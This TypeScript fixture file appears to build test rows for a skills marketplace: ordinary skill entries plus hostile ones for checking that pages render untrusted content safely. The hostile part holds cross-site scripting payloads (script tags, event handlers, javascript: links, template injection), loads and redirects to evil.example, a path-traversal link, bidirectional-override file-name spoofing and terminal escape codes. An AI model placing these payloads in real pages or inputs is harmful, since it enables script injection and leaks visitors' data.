import { skillMd, wholeRow } from '../mcp/whole-skills.js';

const SUBJECTS = {
  bread: ['cooking', 'chefs-351011', 'bakes sourdough loaves and plans the day of the dough'],
  contracts: ['legal', 'lawyers-231011', 'reads contracts clause by clause and marks what is unusual'],
  csv: ['data-analysis', 'data-scientists-152051', 'cleans tables of comma separated values'],
  docker: ['devops', 'software-developers-151252', 'builds small container images'],
  garden: ['home', 'gardeners-373011', 'sows, waters and harvests vegetables by the calendar'],
  git: ['devops', 'software-developers-151252', 'keeps branches and commits of a repository tidy'],
  maps: ['data-analysis', 'cartographers-171021', 'draws maps of places from lists of addresses'],
  music: ['media', 'musicians-272042', 'writes chord sheets and practice plans'],
  photos: ['media', 'photographers-274021', 'sorts, crops and describes photographs'],
  react: ['frontend', 'web-developers-151254', 'tests components of web pages'],
  spreadsheets: ['data-analysis', 'accountants-132011', 'finds errors in formulas of spreadsheets'],
  travel: ['home', 'travel-agents-413041', 'plans journeys by train with time to change'],
} as const;
const VERBS = ['audit', 'draft', 'explain', 'plan', 'review'];
const AUTHORS = ['wren', 'heron', 'ada-okafor', 'finch'];
const LICENSES = ['MIT', 'Apache-2.0', 'CC-BY-4.0'];
/** 2026-01-01. */
const NEWEST = 1_767_225_600;
const DAY = 86_400;

/** A row of what searches, browsing and pages are tried over. */
export type OrdinaryRow = Readonly<Record<string, unknown>> & { readonly id: string; readonly name: string };

const many: OrdinaryRow[] = Object.entries(SUBJECTS).flatMap(([subject, [category, occupation, does]], i) =>
  VERBS.map((verb, j) => {
    const n = i * VERBS.length + j;
    const name = `${subject}-${verb}`;
    return {
      ...{ id: name, name, description: `A skill that ${does}, to ${verb} what is there. It keeps notes.` },
      ...{ author: AUTHORS[n % AUTHORS.length], stars: (n * 37) % 1000, updatedAt: NEWEST - n * DAY },
      ...{ license: LICENSES[n % LICENSES.length], categories: [category], occupations: [occupation] },
      ...{ codehostUrl: `https://code.example/skills/${name}`, skillUrl: `https://market.example/${name}` },
      files: [{ filename: 'SKILL.md', text: `# ${name}\n\nWhen somebody asks to ${verb}: ${does}.\n` }],
    };
  }),
);

const RICH_TEXT = skillMd(
  'pdf-forms',
  'Fills in PDF forms.',
  `# Fill in forms

Use it when a form has **fields**. See [the reference](references/fields.md), <https://pdf.example/> and *notes*.

## Pieces

1. Read the fields
2. Fill them in
   - one by one
   - or all at once
3. Check the result

| field | type | wanted | default | remarks that are long enough to make the table wide |
| --- | :-: | --: | --- | --- |
| name | text | yes | none | as it stands in the passport, with all given names in their order |
| date | date | no | today | |

\`\`\`python
from pdf import fill  # a comment that goes on and on, so that the line is wider than a narrow page will ever be
fill("form.pdf", {"name": "Ada", "date": "2026-01-01"})
\`\`\`

\`\`\`sh
pdf-fill form.pdf
\`\`\`

> Never sign for anybody.

![a filled-in form](https://pictures.example/form.png)

### Afterwards

~~Print~~ Send it. Use \`pdf-fill --flatten\`.

---

<b>no HTML</b>
`,
);

const rich: OrdinaryRow = wholeRow({
  ...{ id: 'pdf-forms', name: 'pdf-forms', description: 'Fills in PDF forms from a list of values.' },
  ...{ author: 'ada-okafor', stars: 12_345, updatedAt: NEWEST + DAY, license: 'MIT' },
  ...{ categories: ['documents', 'data-analysis'], occupations: ['office-clerks-439061'] },
  ...{ codehostUrl: 'https://code.example/ada/pdf-forms', skillUrl: 'https://market.example/pdf-forms' },
  files: {
    'SKILL.md': RICH_TEXT,
    'references/fields.md': '# Fields\n\nA field has a name.\n',
    'scripts/fill.py': 'print("fill")\n',
    'assets/preview.html': '<!doctype html><script>document.title = "ran"</script>\n',
    'assets/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>\n',
    'assets/form.pdf': Buffer.from([0x25, 0x50, 0x44, 0x46, 0, 0xff, 0xfe, 1, 2, 3]),
  },
}) as OrdinaryRow;

const copies: OrdinaryRow[] = ['wren', 'heron', 'finch'].map((author, i) => ({
  ...{ id: `${author}-commit-messages`, name: 'commit-messages', author, stars: 30 - i },
  description: 'Writes messages of commits in the imperative.',
  ...{ updatedAt: NEWEST - 90 * DAY - i, categories: ['devops'], occupations: ['software-developers-151252'] },
}));

/** Skills in other scripts: language, direction, a name of one word and a description. */
export const SCRIPTS = [
  ['ar', 'rtl', 'ملخص-الاجتماعات', 'يلخص محاضر الاجتماعات ويكتب قائمة المهام والمواعيد لكل مشارك.'],
  ['he', 'rtl', 'סיכום-פגישות', 'מסכם פגישות וכותב רשימת משימות ומועדים לכל משתתף.'],
  ['zh', 'ltr', '会议纪要整理', '把会议录音转写稿整理成结构清晰的会议纪要，列出决议和待办事项。'],
  ['ja', 'ltr', '議事録まとめ', '会議の録音から議事録を作り、決定事項とやることを一覧にします。'],
  ['th', 'ltr', 'สรุปการประชุม', 'สรุปรายงานการประชุมและจัดทำรายการงานพร้อมกำหนดเวลาสำหรับผู้เข้าร่วมทุกคน'],
] as const;

const scripts: OrdinaryRow[] = SCRIPTS.map(([language, , name, description], i) => ({
  ...{ id: `meeting-${language}`, name, description, author: 'wren', stars: i, updatedAt: NEWEST - (100 + i) * DAY },
  files: [{ filename: 'SKILL.md', text: `# ${name}\n\n${description}\n\n- ${description}\n` }],
}));

/** 70 skills: 60 by subject and verb, one with files of all kinds, three copies, and one in each script. */
export const ORDINARY_ROWS: readonly OrdinaryRow[] = [...many, rich, ...copies, ...scripts];

/** Each would change the title of the page, open a dialog or ask another origin if it came to life. */
const HOSTILE_SCRIPTS = [
  '<script>document.title="ran"</script>',
  '"><img src=x onerror=document.title="ran">',
  "'><svg/onload=alert(1)>",
  '</title></style></textarea></pre><script src=//evil.example/x.js></script>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>parent.document.title=\'ran\'</script>"></iframe>',
  '<style>*{background:url(//evil.example/x.png)}</style><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
  '{{constructor.constructor("alert(1)")()}}',
];

const HOSTILE_MARKDOWN = `# <script>document.title="ran"</script>

[click](javascript:alert(1)) [click](data:text/html,<script>alert(1)</script>) [click](vbscript:alert(1))
[click]( javascript:alert(1) ) [click](//evil.example/x) [up](../../../etc/passwd) [a](#a"onmouseover=alert(1))
![x](https://evil.example/pixel.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![x](x"onerror="alert(1))
<javascript:alert(1)> <https://evil.example/"onmouseover=alert(1)>
<img src=https://evil.example/y.png onerror=alert(1)> <details open ontoggle=alert(1)><summary>x</summary></details>

[ref]: javascript:alert(1)
[ref]

\`\`\`html"><script>alert(1)</script>
<script>document.title="ran"</script>
\`\`\`

| <img src=x onerror=alert(1)> | b |
| --- | --- |
| <script>alert(1)</script> | [x](javascript:alert(1)) |

<!-- --> <script>alert(1)</script> <!--
<form action=https://evil.example/><input name=q><button>Search</button></form>
<link rel=stylesheet href=https://evil.example/x.css> <style>body{display:none}</style>
<div id=q name=main class=results style="position:fixed;inset:0">covers all</div>
`;

const scripted = HOSTILE_SCRIPTS.map((script, i) =>
  wholeRow({
    ...{ id: `hostile-${i}`, name: `hostile ${script}`, description: `Does ${script} things.` },
    ...{ author: `author${script}`, license: script, stars: i, updatedAt: 1_700_000_000 + i },
    ...{ categories: [script], occupations: [script], tags: [script], keywords: [script] },
    ...{ codehostUrl: `https://code.example/${script}`, skillUrl: 'javascript:document.title="ran"' },
    files: {
      'SKILL.md': `---\nname: "${script.replaceAll('"', '\\"')}"\n${script}: ${script}\n---\n${HOSTILE_MARKDOWN}${script}\n`,
      [`${script.replaceAll('/', '')}.html`]: `<!doctype html>${HOSTILE_SCRIPTS.join('\n')}`,
      'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>document.title="ran"</script></html>`,
      'sniffed.txt': `<html><script>document.title="ran"</script></html>`,
      'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="ran"</script></svg>`,
    },
  }),
);

/** More than any page shows at once: 4 MB, in lines and in one line, with marks of Markdown that nest. */
const LINES = `${'A line of text that is neither short nor long, over and over again.\n'.repeat(14_000)}\n`;
const HUGE = `# Huge\n\n${LINES}${'> '.repeat(5000)}deep\n\n${'['.repeat(20_000)}\n\n${'*a '.repeat(20_000)}\n\n${'word'.repeat(250_000)}\n`;

/** U+202E and its like, which reorder what comes after them until something ends them. */
const OVERRIDES = '\u202e\u2066\u2067\u202dgnp.exe\u200f';
const MARKS = `a${'\u0300\u0321\u035c'.repeat(200)}`;
const WORD = 'Donaudampfschifffahrtsgesellschaft'.repeat(30);
const EMOJI = '👩🏽‍🚀🏳️‍🌈🇺🇳'.repeat(20);

const strange: Readonly<Record<string, readonly [name: string, description: string, text: string]>> = {
  'strange-override': [
    `report${OVERRIDES}`,
    `Opens ${OVERRIDES} and goes on.`,
    `# ${OVERRIDES}\n\nBefore ${OVERRIDES} after\n`,
  ],
  'strange-marks': [`marks ${MARKS}`, `Stacks ${`${MARKS} `.repeat(5)}`, `# ${MARKS}\n\n${`${MARKS} `.repeat(10)}\n`],
  'strange-word': [
    WORD.slice(0, 200),
    `Knows ${WORD}`,
    `# ${WORD}\n\n${WORD}\n\n| ${WORD} | b |\n| --- | --- |\n| ${WORD} | ${WORD} |\n\n- ${WORD}\n\n    ${WORD}\n`,
  ],
  'strange-emoji': [EMOJI.slice(0, 200), `Draws ${EMOJI}`, `# ${EMOJI}\n\n${EMOJI}\n`],
  'strange-blanks': [
    `wide${'\u3000'.repeat(80)}name`,
    `Has${'\u00a0'.repeat(500)}no break`,
    `${'\u00a0'.repeat(3000)}x\n`,
  ],
  'strange-url': ['long address', 'Has a long address.', `https://code.example/${'a'.repeat(1500)}\n`],
  'strange-controls': [
    'bell\u0007 and \u001b[31mred',
    'Rings \u0007\u0000\ufeff\ufffd\ud800.',
    '\u0007\u001b[2J\u0085\u2028\u2029\n',
  ],
};

const odd = Object.entries(strange).map(([id, [name, description, text]], i) =>
  wholeRow({
    ...{ id, name, description, author: name.slice(0, 200), license: description.slice(0, 200), stars: 500 + i },
    ...{ updatedAt: 1_710_000_000 + i, categories: ['odd'], occupations: ['odd'] },
    ...{
      codehostUrl: `https://code.example/${'b'.repeat(900)}`,
      skillUrl: `https://market.example/${encodeURIComponent(name)}`,
    },
    files: {
      'SKILL.md': skillMd(id, 'odd', text),
      [`${name.replaceAll(/[/\\\p{Cc}]/gu, '').slice(0, 200)}.md`]: text,
    },
  }),
);

const huge = wholeRow({
  ...{
    id: 'strange-huge',
    name: 'huge',
    description: 'h'.repeat(4000),
    author: 'wren',
    stars: 999,
    updatedAt: 1_720_000_000,
  },
  ...{ categories: Array.from({ length: 60 }, (_, i) => `a-rather-long-category-${i}`), occupations: [] },
  files: {
    'SKILL.md': `${skillMd('huge', 'huge', HUGE)}`.slice(0, 1_000_000),
    'text-1.md': HUGE.slice(0, 1_000_000),
    'text-2.txt': HUGE.slice(-1_000_000),
    'text-3.json': `[${'[1],'.repeat(200_000)}1]`,
    ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`many/files/in/deep/folders/file-${i}.txt`, 'x'])),
  },
});

/** Skills that try to do something in a page, to cover it or to make it wider. */
export const HOSTILE_ROWS: readonly Record<string, unknown>[] = [...scripted, ...odd, huge];
